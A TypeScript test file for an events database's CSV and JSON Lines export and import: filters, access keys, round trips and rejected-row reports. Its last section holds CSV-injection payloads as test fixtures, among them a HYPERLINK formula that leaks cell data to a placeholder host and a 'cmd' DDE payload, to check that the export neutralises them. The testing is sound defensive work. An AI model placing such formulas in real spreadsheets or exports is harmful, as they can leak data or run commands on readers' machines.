// Exports and imports over real HTTP and a real database: the CSV and JSONL exports (GDELT-like columns
// plus citations, the events query's filters, the read rule), an export → import round trip into a fresh
// database that reproduces the same events, and the import's report of rejected rows (nothing written,
// non-zero exit from `npm run import`).
import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, type Database } from '../src/core/db/database.js';
import { stringify } from 'csv-stringify/sync';
import { neutraliseCell, restoreCell, type ExportRecord } from '../src/features/export/export-format.js';
import { COLUMN_NAMES } from '../src/features/export/export-query.js';
import type { PrismaClient } from '../src/generated/prisma/client.js';
import { parseCsv } from '../src/features/import/csv.js';
import { ImportSetupError, importEvents } from '../src/features/import/import-events.js';
import { dataset } from '../seeds/japan-vietnam.js';
import { bearer } from './helpers/api-keys.js';
import { createTestDatabase, type TestDatabase } from './helpers/test-database.js';
import { dataOf, startTestServer, type TestServer } from './helpers/test-server.js';
import { seedRecords } from './helpers/seed-records.js';
import { fixtureBasis } from './helpers/fixture-basis.js';
import { graphql, type VariablesOf } from './helpers/graphql.js';

const repoRoot = fileURLToPath(new URL('../', import.meta.url));

const KISHI = graphql(`
  {
    participant(slug: "nobuo-kishi") {
      id
    }
  }
`);

const EVENT_SLUGS = graphql(`
  query ($f: EventFilter) {
    events(first: 100, filter: $f) {
      edges {
        node {
          slug
        }
      }
    }
  }
`);

/** The body of a refused export request. */
interface ErrorBody {
  errors: { message: string; extensions: Record<string, unknown> }[];
}

let server: TestServer;
let csv: string;
let jsonl: string;

async function get(url: string, headers: Record<string, string> = {}) {
  const response = await fetch(url, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** JSON Lines text → the exported records. */
function jsonlRecords(text: string): ExportRecord[] {
  return text
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as ExportRecord);
}

/** CSV text → objects by column name. */
function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.fields.map((name, i) => [name, r.fields[i]!])));
}

/** A fresh database with the migrations applied and nothing else. */
async function freshDatabase(): Promise<{ test: TestDatabase; db: Database }> {
  const test = await createTestDatabase();
  const db = await openDatabase(test.config);
  await db.migrate();
  return { test, db };
}

/** What an event is, as far as the export carries it, keyed by slug: for comparing two databases. */
async function snapshot(prisma: PrismaClient) {
  const events = await prisma.event.findMany({
    where: { deletedAt: null },
    include: {
      placeCountry: true,
      participations: { include: { participant: { include: { country: true } }, bases: true } },
      citations: { include: { source: true } },
      bases: true,
    },
    orderBy: { slug: 'asc' },
  });
  // The bases the export carries: of the values held (not another value a source gives), not plainly stated.
  const bases = (
    rows: {
      field: string;
      value: string | null;
      basis: string;
      note: string | null;
      reference: string | null;
    }[],
    who = '',
  ) =>
    rows
      .filter((b) => b.value === null && b.basis !== 'STATED')
      .map((b) => [who, b.field, b.basis, b.note, b.reference].join('|'));
  return events.map((e) => ({
    slug: e.slug,
    kind: e.kind,
    title: e.title,
    summary: e.summary,
    start: [e.startDate.toISOString(), e.startPrecision],
    end: [e.endDate?.toISOString() ?? null, e.endPrecision],
    latestDate: e.latestDate?.toISOString(),
    place: [e.placeName, e.placeCountry?.isoCode ?? null],
    coding: [e.cameoCode, e.ploverCategory, e.ploverMode, e.ploverContexts],
    participations: e.participations
      .map((p) =>
        [
          p.participant.slug,
          p.role,
          p.participant.name,
          p.participant.kind,
          p.participant.isoCode ?? p.participant.country?.isoCode ?? null,
        ].join('|'),
      )
      .sort(),
    bases: [
      ...bases(e.bases),
      ...e.participations.flatMap((p) => bases(p.bases, `${p.participant.slug}/${p.role}`)),
    ].sort(),
    citations: e.citations
      .map((c) =>
        [
          c.source.slug,
          c.source.kind,
          c.source.title,
          c.source.url,
          c.source.publisher,
          c.source.publishedDate?.toISOString(),
          c.quote,
          c.claimField,
          c.claimValue,
        ].join('|'),
      )
      .sort(),
  }));
}

beforeAll(async () => {
  server = await startTestServer();
  csv = (await get(`${server.url}/export/events.csv`)).text;
  jsonl = (await get(`${server.url}/export/events.jsonl`)).text;
});
afterAll(async () => {
  await server?.stop();
});

describe('export', () => {
  it('streams CSV: a header, then one row per citation of each event, oldest first', async () => {
    const res = await get(`${server.url}/export/events.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('events.csv');
    const [header] = parseCsv(res.text);
    expect(header!.fields).toEqual(COLUMN_NAMES);
    const rows = csvObjects(res.text);
    const citations = dataset.events.reduce((n, e) => n + e.citations.length, 0);
    expect(rows).toHaveLength(citations);
    expect(new Set(rows.map((r) => r.event_id))).toEqual(new Set(dataset.events.map((e) => e.key)));
    const firsts = rows.filter((r) => r.citation_index === '1');
    expect(firsts).toHaveLength(dataset.events.length);
    expect(firsts.map((r) => r.date)).toEqual([...firsts.map((r) => r.date)].sort());
  });

  it('fills the GDELT-like columns: first dyad as actors, CAMEO at three levels, QuadClass, Goldstein, PLOVER', () => {
    const rows = csvObjects(csv);
    const visit = rows.find((r) => r.event_id === 'kishi-visit-to-vietnam-2021-09')!;
    expect(visit).toMatchObject({
      date: '2021-09-11',
      date_precision: 'DAY',
      end_date: '2021-09-12',
      actor1_id: 'nobuo-kishi',
      actor1_name: 'Nobuo Kishi',
      actor1_kind: 'PERSON',
      actor1_country: 'JP',
      actor1_role: 'VISITOR',
      actor2_id: 'vietnam',
      actor2_country: 'VN',
      actor2_role: 'HOST',
      event_code: '042',
      event_base_code: '042',
      event_root_code: '04',
      event_code_name: 'Make a visit',
      quad_class: '1',
      goldstein: '1.9',
      plover_category: 'CONSULT',
      plover_mode: 'visit',
      plover_contexts: 'military',
      location: '',
      location_country: 'VN',
    });
    expect(JSON.parse(visit.participants!)).toEqual([
      { id: 'vietnam', name: 'Vietnam', kind: 'COUNTRY', country: 'VN', role: 'HOST' },
      { id: 'nobuo-kishi', name: 'Nobuo Kishi', kind: 'PERSON', country: 'JP', role: 'VISITOR' },
    ]);
    const signing = rows.find((r) => r.event_id === 'signing-of-equipment-transfer-agreement-2021-09-11')!;
    expect(signing).toMatchObject({
      event_code: '057',
      event_root_code: '05',
      goldstein: '8',
      plover_category: 'SUPPORT',
    });
    // No dyad (a lone speaker): actor 1 is the speaker, actor 2 empty.
    const statement = rows.find(
      (r) => r.event_id === 'japan-mod-statement-on-defence-ministers-talks-2021-09',
    )!;
    expect(statement).toMatchObject({
      actor1_id: 'japan-ministry-of-defense',
      actor1_role: 'SPEAKER',
      actor2_id: '',
      plover_category: '',
    });
    const cited = rows.filter((r) => r.event_id === 'japan-vietnam-defence-ministers-meeting-2021-09-11');
    // Six quotes, and the one that places the meeting in Vietnam (issue 15: the place is inferred).
    expect(cited.map((r) => r.citation_index)).toEqual(['1', '2', '3', '4', '5', '6', '7']);
    expect(cited.every((r) => r.quote && r.source_title)).toBe(true);
    expect(cited.some((r) => r.claim_field === 'startDate' && r.claim_value === '2021-09-11')).toBe(true);
  });

  it('streams JSON Lines with the same records, typed', () => {
    const lines = jsonlRecords(jsonl);
    const rows = csvObjects(csv);
    expect(lines).toHaveLength(rows.length);
    lines.forEach((record, i) => {
      expect(Object.keys(record)).toEqual(COLUMN_NAMES);
      const row = rows[i]!;
      for (const name of COLUMN_NAMES) {
        const value = record[name];
        const asCsv =
          name === 'participants'
            ? JSON.stringify(value)
            : name === 'plover_contexts'
              ? (value as string[]).join(';')
              : value === null
                ? ''
                : String(value);
        expect(asCsv, `${i}.${name}`).toBe(restoreCell(row[name]!));
      }
    });
    expect(typeof lines[0]?.goldstein).toBe('number');
    expect(Array.isArray(lines[0]?.participants)).toBe(true);
  });

  it('filters as the events query does, with the filter as query-string parameters', async () => {
    const participant = dataOf(await server.gql(KISHI)).participant;
    expect(participant).not.toBeNull();
    const kishi = participant!.id;
    const cases: [string, NonNullable<VariablesOf<typeof EVENT_SLUGS>['f']>][] = [
      ['cameo=04', { cameoCodes: ['04'] }],
      ['cameoCodes=042&cameoCodes=057', { cameoCodes: ['042', '057'] }],
      ['countries=JP,VN&countriesMatch=ALL', { countries: ['JP', 'VN'], countriesMatch: 'ALL' }],
      ['from=2021-04-15&to=2021-09-11', { from: '2021-04-15', to: '2021-09-11' }],
      ['kinds=VISIT,SIGNING', { kinds: ['VISIT', 'SIGNING'] }],
      ['plover=CONSULT&ploverModes=visit', { ploverCategories: ['CONSULT'], ploverModes: ['visit'] }],
      [
        'ploverContexts=cyber&quadClasses=1',
        { ploverContexts: ['cyber'], quadClasses: ['VERBAL_COOPERATION'] },
      ],
      [`participants=${encodeURIComponent(kishi)}`, { participants: [kishi] }],
    ];
    for (const [query, filter] of cases) {
      const exported = csvObjects((await get(`${server.url}/export/events.csv?${query}`)).text);
      const listed = await server.gql(EVENT_SLUGS, {
        f: filter,
      });
      expect(listed.errors).toBeUndefined();
      const { edges } = dataOf(listed).events;
      const expected = edges.map((e) => e.node.slug).sort();
      expect([...new Set(exported.map((r) => r.event_id))].sort(), query).toEqual(expected);
      expect(expected.length, query).toBeGreaterThan(0);
    }
  });

  it('refuses bad parameters with 400 and the parameter at fault, in JSON', async () => {
    for (const [query, field] of [
      ['from=2021-13-01', 'from'],
      ['bogus=1', 'bogus'],
      ['cameo=4x', 'cameoCodes'],
      ['kinds=PARTY', 'kinds.0'],
      ['from=2021-12-01&to=2021-01-01', 'to'],
      ['countries=jp', 'countries.0'],
      ['participants=nope', 'participants.0'],
    ] as const) {
      const res = await get(`${server.url}/export/events.jsonl?${query}`);
      expect(res.status, query).toBe(400);
      expect((JSON.parse(res.text) as ErrorBody).errors[0]?.extensions, query).toMatchObject({
        code: 'BAD_USER_INPUT',
        field,
      });
    }
  });

  it('follows the read rule: with READS_REQUIRE_KEY, no key is 401 and any key may export', async () => {
    const closed = await startTestServer({ readsRequireKey: true });
    try {
      const anonymous = await get(`${closed.url}/export/events.csv`);
      expect(anonymous.status).toBe(401);
      expect((JSON.parse(anonymous.text) as ErrorBody).errors[0]?.extensions.code).toBe('UNAUTHENTICATED');
      const wrong = await get(`${closed.url}/export/events.csv`, { authorization: 'Bearer jvlog_nope' });
      expect(wrong.status).toBe(401);
      const reader = await bearer(closed.db, 'READER');
      const allowed = await get(`${closed.url}/export/events.csv?cameo=057`, {
        authorization: reader.authorization,
      });
      expect(allowed.status).toBe(200);
      expect(csvObjects(allowed.text).length).toBeGreaterThan(0);
    } finally {
      await closed.stop();
    }
  });
});

describe('import', () => {
  const fresh: { test: TestDatabase; db: Database }[] = [];
  afterAll(async () => {
    for (const f of fresh) {
      await f.db.close();
      await f.test.drop();
    }
  });
  const newDatabase = async () => {
    const f = await freshDatabase();
    fresh.push(f);
    return f.db;
  };

  it('round trip: the CSV export imported into a fresh database reproduces the same events, audited', async () => {
    const db = await newDatabase();
    const report = await importEvents(db.prisma, csv, { format: 'csv', label: 'import:events.csv' });
    expect(report.rejected).toEqual([]);
    expect(report.created.events).toBe(dataset.events.length);
    expect(report.keyName).toBe('import');
    const imported = await snapshot(db.prisma);
    expect(imported).toEqual(await snapshot(server.db.prisma));
    // The bases came back with the values (the seed infers some and knows some from outside).
    const kinds = new Set(imported.flatMap((e) => e.bases.map((b) => b.split('|')[2])));
    expect(kinds).toEqual(new Set(['INFERRED', 'OUTSIDE_KNOWLEDGE']));
    const audit = await db.prisma.auditEntry.findMany({
      where: { operation: 'importEvents' },
      include: { apiKey: true },
    });
    expect(audit.filter((a) => a.entityType === 'Event')).toHaveLength(dataset.events.length);
    expect(new Set(audit.map((a) => a.apiKey.name))).toEqual(new Set(['import']));
    expect(new Set(audit.map((a) => a.requestId))).toEqual(new Set(['import:events.csv']));
  });

  it('round trip from JSON Lines too', async () => {
    const db = await newDatabase();
    const report = await importEvents(db.prisma, jsonl, { format: 'jsonl' });
    expect(report.rejected).toEqual([]);
    expect(await snapshot(db.prisma)).toEqual(await snapshot(server.db.prisma));
  });

  /** The export with some cells changed: [row index (0 = first data row), column, new value]. */
  function corrupt(changes: [number, string, string][]): { text: string; lineOf: (row: number) => number } {
    const [header, ...rows] = parseCsv(csv);
    for (const [row, column, value] of changes) rows[row]!.fields[header!.fields.indexOf(column)] = value;
    // The cells are already as the export wrote them: re-quoted, not neutralised again.
    const text = stringify(
      [header!, ...rows].map((r) => r.fields),
      { record_delimiter: '\r\n' },
    );
    const lines = parseCsv(text).map((r) => r.line);
    return { text, lineOf: (row) => lines[row + 1]! };
  }

  it('reports every rejected row by line, field and message, and writes nothing', async () => {
    const rows = csvObjects(csv);
    const multi = rows.findIndex(
      (r, i) => i > 0 && r.event_id === rows[i - 1]!.event_id && r.event_id !== rows[0]!.event_id,
    );
    const agree = rows.findIndex((r) => r.plover_category === 'AGREE');
    const changes: [number, string, string][] = [
      [0, 'date', '2021-02-30'],
      [multi, 'title', 'Another title'],
      [agree, 'plover_mode', 'visit'],
      [rows.length - 1, 'kind', 'PARTY'],
      [rows.findIndex((r) => r.event_code === '046'), 'event_code', '099'],
      [rows.findIndex((r) => r.event_id === 'kishi-visit-to-vietnam-2021-09'), 'quote', '   '],
      [
        rows.findIndex((r) => r.event_id === 'nato-cyberspace-exercise-2021-04'),
        'participants',
        JSON.stringify([{ id: 'nato', name: 'NATO', kind: 'ORGANISATION', country: null, role: 'BOSS' }]),
      ],
    ];
    const { text, lineOf } = corrupt(changes);
    const db = await newDatabase();
    const report = await importEvents(db.prisma, text, { format: 'csv' });
    const got = report.rejected.map((r) => `${r.line} ${r.field}`);
    expect(got).toEqual(
      expect.arrayContaining([
        `${lineOf(changes[0]![0])} date`,
        `${lineOf(multi)} title`,
        `${lineOf(agree)} plover_mode`,
        `${lineOf(rows.length - 1)} kind`,
        `${lineOf(changes[4]![0])} event_code`,
        `${lineOf(changes[5]![0])} quote`,
        `${lineOf(changes[6]![0])} participants.0.role`,
      ]),
    );
    const message = (row: number, field: string) =>
      report.rejected.find((r) => r.line === lineOf(row) && r.field === field)?.message;
    expect(message(changes[0]![0], 'date')).toMatch(/not a calendar date/);
    expect(message(multi, 'title')).toMatch(/differs from line \d+, the first row of event/);
    expect(message(agree, 'plover_mode')).toMatch(/not a mode of AGREE/);
    expect(message(changes[4]![0], 'event_code')).toMatch(/not a CAMEO 1.1b3 event code/);
    expect(message(changes[5]![0], 'quote')).toMatch(/must not be blank/);
    expect(report.created).toEqual({ events: 0, participants: 0, sources: 0 });
    expect(
      await Promise.all([
        db.prisma.event.count(),
        db.prisma.participant.count(),
        db.prisma.source.count(),
        db.prisma.auditEntry.count(),
      ]),
    ).toEqual([0, 0, 0, 0]);
  });

  it('reads value_bases back, and rejects an event whose date or place has no basis, or a basis without its note', async () => {
    const rows = csvObjects(csv);
    const bases = (i: number) => JSON.parse(rows[i]!.value_bases!) as { field: string; basis: string }[];
    // An event placed in a country no quote names (outside knowledge), and one with an inference.
    const a = rows.findIndex((_, i) =>
      bases(i).some((b) => b.field === 'placeCountry' && b.basis === 'OUTSIDE_KNOWLEDGE'),
    );
    const b = rows.findIndex(
      (r, i) => r.event_id !== rows[a]!.event_id && bases(i).some((x) => x.basis === 'INFERRED'),
    );
    expect([a, b].every((i) => i >= 0)).toBe(true);
    const changes: [number, string, string][] = [];
    rows.forEach((r, i) => {
      // value_bases is an event column: every row of the event repeats it.
      if (r.event_id === rows[a]!.event_id) changes.push([i, 'value_bases', '[]']);
      if (r.event_id === rows[b]!.event_id)
        changes.push([i, 'value_bases', JSON.stringify(bases(i).map((x) => ({ ...x, note: null })))]);
    });
    const { text, lineOf } = corrupt(changes);
    const db = await newDatabase();
    const report = await importEvents(db.prisma, text, { format: 'csv' });
    expect(report.rejected).toEqual([
      {
        line: lineOf(Math.min(a, b)),
        field: a < b ? 'location_country' : 'value_bases',
        message: expect.any(String),
      },
      {
        line: lineOf(Math.max(a, b)),
        field: a < b ? 'value_bases' : 'location_country',
        message: expect.any(String),
      },
    ]);
    const message = (field: string) => report.rejected.find((r) => r.field === field)!.message;
    expect(message('location_country')).toMatch(
      /placeCountry has no basis: a row of the event whose claim_field is "placeCountry"/,
    );
    expect(message('value_bases')).toMatch(/needs a note/);
    expect(await db.prisma.event.count()).toBe(0);
  });

  it('rejects events that exist already, and files with a wrong header', async () => {
    const again = await importEvents(server.db.prisma, csv, { format: 'csv', dryRun: true });
    expect(again.rejected).toHaveLength(dataset.events.length);
    expect(again.rejected.every((r) => r.field === 'event_id' && /exists already/.test(r.message))).toBe(
      true,
    );
    const header = await importEvents(server.db.prisma, 'event_id,date,colour\r\nx,2021-01-01,red\r\n', {
      format: 'csv',
    });
    expect(header.rejected).toEqual([
      {
        line: 1,
        field: 'file',
        message: expect.stringMatching(/missing columns: .*title.*; unknown columns: colour/),
      },
    ]);
  });

  it('needs an EDITOR or ADMIN key: a named READER key is refused', async () => {
    const db = await newDatabase();
    await bearer(db, 'READER', 'just-reading');
    await expect(importEvents(db.prisma, csv, { format: 'csv', keyName: 'just-reading' })).rejects.toThrow(
      ImportSetupError,
    );
    await expect(importEvents(db.prisma, csv, { format: 'csv', keyName: 'nobody' })).rejects.toThrow(
      /no API key named "nobody"/,
    );
    expect(await db.prisma.event.count()).toBe(0);
  });

  it('`npm run import` exits 1 and lists the rejected rows; imports a good file under --key-name', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'jv-import-'));
    try {
      const test = await createTestDatabase();
      try {
        // The CLI opens the database itself (PGlite has one owner): prepare it, then let go of it.
        const setup = await openDatabase(test.config);
        await setup.migrate();
        await bearer(setup, 'EDITOR', 'newsdesk');
        await setup.close();
        const env: Record<string, string> =
          test.config.mode === 'postgres'
            ? { DATABASE_URL: test.config.url }
            : { DATABASE_URL: '', DATA_DIR: test.config.dataDir };
        // A row that pins no value (a row that pins its event's date would take the date's basis with it,
        // and its event's other rows would be rejected too).
        const rows = csvObjects(csv);
        const plain = rows.findIndex(
          (r, i) => i > 0 && r.event_id === rows[i - 1]!.event_id && !r.claim_field,
        );
        const bad = corrupt([[plain, 'date', 'yesterday']]);
        await writeFile(path.join(dir, 'bad.csv'), bad.text);
        const rejected = await runImport([path.join(dir, 'bad.csv')], env);
        expect(rejected.code).toBe(1);
        expect(rejected.stderr).toContain(`line ${bad.lineOf(plain)}, date: must be a date, YYYY-MM-DD`);
        expect(rejected.stderr).toMatch(/1 rows rejected, nothing imported/);
        await writeFile(path.join(dir, 'good.jsonl'), jsonl);
        const imported = await runImport([path.join(dir, 'good.jsonl'), '--key-name', 'newsdesk'], env);
        expect(imported.stderr).toBe('');
        expect(imported.code).toBe(0);
        expect(imported.stdout).toContain(`imported ${dataset.events.length} events`);
        const check = await openDatabase(test.config);
        try {
          expect(await check.prisma.event.count()).toBe(dataset.events.length);
          const keys = await check.prisma.auditEntry.findMany({
            select: { apiKey: { select: { name: true } } },
            distinct: ['apiKeyId'],
          });
          expect(keys.map((k) => k.apiKey.name)).toEqual(['newsdesk']);
        } finally {
          await check.close();
        }
      } finally {
        await test.drop();
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('formula neutralisation (OWASP CSV injection)', () => {
  // What an editor may store, and what the CSV must show instead. JSON Lines carries the raw values.
  const HOSTILE = {
    title: '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
    summary: "+cmd|' /C calc'!A0",
    placeName: '@SUM(1+1)',
    quote: '-2+3',
    sourceTitle: '\uFF1D1+1 full-width equals',
    publisher: "'=already behind an apostrophe",
    quote2: 'Talks went well;-1+1 said the note;=2+2',
  };
  const EXPECTED_CSV = {
    title: `'${HOSTILE.title}`,
    summary: `'${HOSTILE.summary}`,
    location: `'${HOSTILE.placeName}`,
    quote: `'${HOSTILE.quote}`,
    source_title: `'${HOSTILE.sourceTitle}`,
    source_publisher: `''=already behind an apostrophe`,
  };
  let hostile: TestServer;
  let hostileCsv: string;
  let hostileJsonl: string;
  const TRIGGERS = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
  const NUMERIC = new Set(['quad_class', 'goldstein', 'citation_index']);

  beforeAll(async () => {
    hostile = await startTestServer();
    const editor = await bearer(hostile.db, 'EDITOR');
    const { kishi, giang } = await seedRecords(hostile);
    const created = await hostile.gql(
      graphql(`
        mutation ($input: CreateEventInput!) {
          createEvent(input: $input) {
            event {
              slug
            }
          }
        }
      `),
      {
        input: {
          kind: 'MEETING',
          title: HOSTILE.title,
          summary: HOSTILE.summary,
          placeName: HOSTILE.placeName,
          start: { date: '2031-05-01', precision: 'DAY' },
          basis: fixtureBasis('startDate', 'placeName'),
          cameoCode: '111', // Goldstein −2: a negative number that must stay a number
          participants: [
            { participantId: kishi.id, role: 'VISITOR' },
            { participantId: giang.id, role: 'HOST' },
          ],
          citations: [
            {
              source: {
                kind: 'NEWS_ARTICLE',
                title: HOSTILE.sourceTitle,
                publisher: HOSTILE.publisher,
                fullText: `The note read ${HOSTILE.quote} and nothing more. ${HOSTILE.quote2}`,
              },
              quote: HOSTILE.quote,
            },
            {
              source: { kind: 'NEWS_ARTICLE', title: 'A second report' },
              quote: HOSTILE.quote2,
            },
          ],
        },
      },
      { authorization: editor.authorization },
    );
    expect(created.errors).toBeUndefined();
    hostileCsv = (await get(`${hostile.url}/export/events.csv?from=2031-05-01`)).text;
    hostileJsonl = (await get(`${hostile.url}/export/events.jsonl?from=2031-05-01`)).text;
  });
  afterAll(async () => {
    await hostile?.stop();
  });

  it('the CSV shows every formula as text: an apostrophe in front, at the start and after each ";"', () => {
    const rows = csvObjects(hostileCsv);
    expect(rows).toHaveLength(2);
    const first = rows.find((r) => r.source_title !== 'A second report')!;
    const second = rows.find((r) => r.source_title === 'A second report')!;
    expect(first).toMatchObject(EXPECTED_CSV);
    expect(second.quote).toBe("Talks went well;'-1+1 said the note;'=2+2");
    // Numbers stay numbers: the Goldstein weight is -2, not '-2.
    expect(first.goldstein).toBe('-2');
    expect(first.quad_class).toBe('3');
    // No text cell, nor any ";"-separated piece of one, starts with a trigger.
    for (const row of rows)
      for (const [name, cell] of Object.entries(row)) {
        if (NUMERIC.has(name)) continue;
        for (const piece of cell.split(';')) expect(piece, name).not.toMatch(TRIGGERS);
      }
  });

  it('JSON Lines carries the raw values', () => {
    const records = jsonlRecords(hostileJsonl);
    expect(records).toHaveLength(2);
    const first = records.find((r) => r.source_title !== 'A second report');
    const second = records.find((r) => r.source_title === 'A second report');
    expect(first).toMatchObject({
      title: HOSTILE.title,
      summary: HOSTILE.summary,
      location: HOSTILE.placeName,
      quote: HOSTILE.quote,
      source_title: HOSTILE.sourceTitle,
      source_publisher: HOSTILE.publisher,
      goldstein: -2,
    });
    expect(second?.quote).toBe(HOSTILE.quote2);
  });

  it('the import undoes exactly the neutralisation: the CSV round-trips to the raw values', async () => {
    const test = await createTestDatabase();
    const db = await openDatabase(test.config);
    try {
      await db.migrate();
      const full = (await get(`${hostile.url}/export/events.csv`)).text;
      const report = await importEvents(db.prisma, full, { format: 'csv' });
      expect(report.rejected).toEqual([]);
      expect(await snapshot(db.prisma)).toEqual(await snapshot(hostile.db.prisma));
      const event = await db.prisma.event.findFirstOrThrow({
        where: { title: HOSTILE.title },
        include: { citations: { include: { source: true }, orderBy: { quote: 'asc' } } },
      });
      expect(event).toMatchObject({ summary: HOSTILE.summary, placeName: HOSTILE.placeName });
      expect(event.citations.map((c) => c.quote)).toEqual([HOSTILE.quote, HOSTILE.quote2]);
      expect(event.citations[0]!.source).toMatchObject({
        title: HOSTILE.sourceTitle,
        publisher: HOSTILE.publisher,
      });
    } finally {
      await db.close();
      await test.drop();
    }
  });

  it('neutraliseCell and restoreCell are inverses, and leave ordinary text alone', () => {
    for (const text of [
      'Hanoi',
      '2021-09-11',
      "'Tis the season",
      "''=x",
      '=1+1',
      '-',
      "'",
      ';',
      ';=;+;',
      "a;'b;''-c",
      '\t=x',
      '\uFF0D5',
      'military;cyber',
      '',
    ]) {
      expect(restoreCell(neutraliseCell(text)), JSON.stringify(text)).toBe(text);
    }
    expect(neutraliseCell('Hanoi, Vietnam')).toBe('Hanoi, Vietnam');
    expect(neutraliseCell("'Tis")).toBe("'Tis");
    expect(neutraliseCell("'=x")).toBe("''=x");
    expect(neutraliseCell('\n=x')).toBe("'\n=x");
  });
});

function runImport(
  args: string[],
  env: Record<string, string>,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', 'src/features/import/import-cli.ts', ...args], {
      cwd: repoRoot,
      env: { ...process.env, LOG_LEVEL: 'silent', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => (stdout += c));
    child.stderr.setEncoding('utf8').on('data', (c: string) => (stderr += c));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}
